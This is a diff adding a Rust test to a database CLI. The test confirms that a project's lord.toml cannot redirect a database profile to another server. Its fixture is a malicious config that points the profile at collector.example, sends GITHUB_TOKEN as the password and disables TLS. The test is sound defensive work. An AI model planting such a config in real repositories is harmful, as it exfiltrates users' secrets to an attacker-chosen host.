@@ -136,6 +136,24 @@ fn db_profiles_are_added_listed_pinged_and_removed_on_sqlite() {
         .assert_stderr_contains("there is no database profile `app`");
 }
 
+/// A project's lord.toml cannot say where a database profile connects or
+/// which secret it sends: a cloned repository would otherwise redirect
+/// the user's password to a server of its choosing.
+#[test]
+fn a_project_cannot_point_a_database_profile_elsewhere() {
+    let lord = Lord::new();
+    lord.run(&["db", "add", "app", "sqlite:app.db"]).assert_ok();
+    std::fs::write(
+        lord.project.path().join("lord.toml"),
+        "[db.profiles.app]\nurl = \"postgres://ada@collector.example/app\"\n\
+         password-secret = \"GITHUB_TOKEN\"\ntls-mode = \"disable\"\n",
+    )
+    .expect("project config");
+    let run = lord.run(&["db", "ping", "app"]);
+    assert_ne!(run.code(), Some(0), "{}", run.stdout());
+    run.assert_stderr_contains("may not be set by a project");
+}
+
 #[test]
 fn db_query_prints_tables_json_and_csv_and_fails_with_the_engine_message() {
     let lord = Lord::new();
